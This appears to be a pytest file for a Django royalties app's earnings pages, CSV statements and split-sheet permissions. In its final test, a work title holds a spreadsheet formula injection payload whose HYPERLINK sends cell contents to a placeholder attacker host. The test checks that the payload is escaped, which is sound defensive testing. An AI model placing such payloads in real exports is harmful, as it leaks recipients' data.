"""Earnings pages, statements and split sheets through their URLs: who sees what, fixed query
counts whatever the number of lines, keyset paging, filters, errors."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.utils import timezone

from royalties.ledger import EntrySpec, Leg, ledger_post_many
from royalties.models import LedgerAccount
from royalties.tests.factories import sheet_row, work_row

pytestmark = pytest.mark.django_db
Kind = LedgerAccount.Kind
BUYER = "0x" + "b" * 40


def _sales(address, work, n, *, start=None, amount=1000, tag="a"):
    start = start or timezone.now() - timedelta(days=n)
    ledger_post_many(
        [
            EntrySpec(
                key=f"sale:{tag}:{work.pk}:{address}:{i}",
                kind="sale",
                occurred_at=start + timedelta(hours=i),
                legs=[
                    Leg(Kind.BUYER_PAID, BUYER, -(amount + i)),
                    Leg(
                        Kind.CREDITED,
                        address,
                        amount + i,
                        earning=True,
                        meta={
                            "role": "creator",
                            "sold_work_id": work.pk,
                            "work_id": work.pk,
                            "gross": 2 * (amount + i),
                            "counterparty": BUYER,
                            "uses": 1,
                        },
                    ),
                ],
            )
            for i in range(n)
        ]
    )


def _csv(client, query=""):
    body = b"".join(client.get("/earnings/statement.csv" + query).streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def test_the_earnings_page_costs_the_same_queries_for_3_or_300_lines(
    client, creator, django_assert_num_queries
):
    work = work_row(creator.user, creator.address, title="Many sales")
    _sales(creator.address, work, 3)
    client.force_login(creator.user)
    client.get("/earnings/")
    # session, user, wallet, earning accounts, works for the filter, lines (with their works), day
    # totals (totals and chart), withdrawals confirmed (ledger) and reported, the bell
    with django_assert_num_queries(10):
        client.get("/earnings/")
    _sales(creator.address, work, 300, start=timezone.now() - timedelta(days=200), tag="b")
    with django_assert_num_queries(10):
        page = client.get("/earnings/")
    assert page.context["totals"].lines == 303
    assert len(page.context["lines"]) == 50


def test_keyset_paging_walks_every_line_once(client, creator):
    work = work_row(creator.user, creator.address)
    _sales(creator.address, work, 120)
    client.force_login(creator.user)
    seen, url = [], "/earnings/"
    for _ in range(5):  # 120 lines: three pages of 50, 50, 20
        if not url:
            break
        page = client.get(url)
        seen += [line.pk for line in page.context["lines"]]
        cursor = page.context["next_cursor"]
        url = f"/earnings/?before={cursor}" if cursor else ""
    assert len(seen) == 120 and len(set(seen)) == 120


def test_period_and_work_filters_and_the_csv_agree(client, creator):
    old = work_row(creator.user, creator.address, title="Old one")
    new = work_row(creator.user, creator.address, title="New one")
    _sales(creator.address, old, 5, start=datetime(2025, 1, 10, tzinfo=UTC))
    _sales(creator.address, new, 4, start=timezone.now() - timedelta(days=3), amount=7)
    client.force_login(creator.user)
    page = client.get("/earnings/?period=30")
    assert page.context["totals"].in_period == sum(7 + i for i in range(4))
    assert page.context["totals"].all_time == sum(1000 + i for i in range(5)) + sum(7 + i for i in range(4))
    rows = _csv(client, "?period=30")
    assert int(rows[-1][10]) == page.context["totals"].in_period and len(rows) == 2 + 4 + 1

    page = client.get(f"/earnings/?period=all&work={old.pk}")
    assert page.context["totals"].in_period == sum(1000 + i for i in range(5))
    assert {line.sold_work_id for line in page.context["lines"]} == {old.pk}
    rows = _csv(client, "?period=custom&start=2025-01-10&end=2025-01-10")
    assert int(rows[-1][10]) == sum(1000 + i for i in range(5))  # all five sales were that day (hours apart)


def test_bad_filters_are_explained(client, creator):
    client.force_login(creator.user)
    response = client.get("/earnings/?period=custom&start=2026-02-01&end=2026-01-01")
    assert response.status_code == 200
    assert "The start date must be on or before the end date." in response.content.decode()
    assert client.get("/earnings/?before=garbage").status_code == 200
    assert client.get("/earnings/?work=abc").status_code == 200


def test_nobody_sees_someone_elses_earnings(client, creator, outsider):
    work = work_row(creator.user, creator.address, title="Private money")
    _sales(creator.address, work, 2)
    client.force_login(outsider.user)
    page = client.get("/earnings/")
    assert page.context["totals"].all_time == 0 and "Private money" not in page.content.decode()
    rows = _csv(client)
    assert int(rows[-1][10]) == 0
    client.logout()
    assert client.get("/earnings/").status_code == 302


def test_the_split_page_is_for_the_works_parties_only(client, creator, co_creator, outsider, moderator):
    work = work_row(creator.user, creator.address, title="Shared")
    sheet_row(work, [(co_creator.address, 2000, "inker")])
    for user, status in ((creator.user, 200), (co_creator.user, 200), (moderator, 200), (outsider.user, 404)):
        client.force_login(user)
        assert client.get(f"/works/{work.pk}/splits/").status_code == status
    client.force_login(outsider.user)
    assert client.get(f"/works/{work.pk}/splits/1/typed-data").status_code == 404
    client.force_login(co_creator.user)
    response = client.post(
        f"/works/{work.pk}/splits/", {"party-TOTAL_FORMS": "0", "party-INITIAL_FORMS": "0"}
    )
    assert response.status_code == 404  # only the owner proposes


def test_the_owner_proposes_through_the_form_and_errors_are_shown(client, creator, co_creator):
    work = work_row(creator.user, creator.address, title="Form")
    client.force_login(creator.user)
    data = {"party-TOTAL_FORMS": "2", "party-INITIAL_FORMS": "0"}
    bad = client.post(
        f"/works/{work.pk}/splits/",
        {**data, "party-0-address": "0x12", "party-0-role": "inker", "party-0-percent": "10"},
    )
    assert "is not a wallet address" in bad.content.decode()
    ok = client.post(
        f"/works/{work.pk}/splits/",
        {**data, "party-0-address": co_creator.address, "party-0-role": "inker", "party-0-percent": "12.5"},
        follow=True,
    )
    assert "Version 1 proposed" in ok.content.decode()
    assert work.split_sheets.get().parties.get().bps == 1250
    client.force_login(co_creator.user)
    page = client.get(f"/works/{work.pk}/splits/").content.decode()
    assert 'data-testid="accept-split"' in page and "12.5 %" in page
    assert "sheets-awaiting" in client.get("/dashboard/").content.decode()
    response = client.post(f"/works/{work.pk}/splits/1/accept", "{", content_type="application/json")
    assert response.status_code == 400
    response = client.post(
        f"/works/{work.pk}/splits/1/accept", {"signature": "0x00"}, content_type="application/json"
    )
    assert response.status_code == 400 and "not a valid EIP-712 signature" in response.json()["error"]


def test_the_statement_never_writes_a_formula_from_a_title(client, creator, upstream_creator):
    """A derivative's title reaches the upstream creator's statement: it is written as text."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1;"click")'
    mine = work_row(creator.user, creator.address, title="@SUM(1+1)")
    sold = work_row(upstream_creator.user, upstream_creator.address, title=evil)
    ledger_post_many(
        [
            EntrySpec(
                key="sale:evil",
                kind="sale",
                occurred_at=timezone.now(),
                legs=[
                    Leg(Kind.BUYER_PAID, BUYER, -500),
                    Leg(
                        Kind.CREDITED,
                        creator.address,
                        500,
                        earning=True,
                        meta={"role": "upstream", "sold_work_id": sold.pk, "work_id": mine.pk, "gross": 5000},
                    ),
                ],
            ),
            EntrySpec(
                key="sale:evil:reversal",
                kind="reversal",
                occurred_at=timezone.now(),
                legs=[
                    Leg(Kind.BUYER_PAID, BUYER, 500),
                    Leg(Kind.CREDITED, creator.address, -500, earning=True, meta={"role": "upstream"}),
                ],
            ),
        ]
    )
    client.force_login(creator.user)
    rows = _csv(client)
    sale = next(r for r in rows if r[2].endswith(evil))
    assert sale[2] == "'" + evil and sale[3] == "'@SUM(1+1)"
    reversal = next(r for r in rows if r[-1] == "reversal")
    assert reversal[10] == "-500" and reversal[11] == "-0.0000000000000005"  # numbers stay numbers
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]
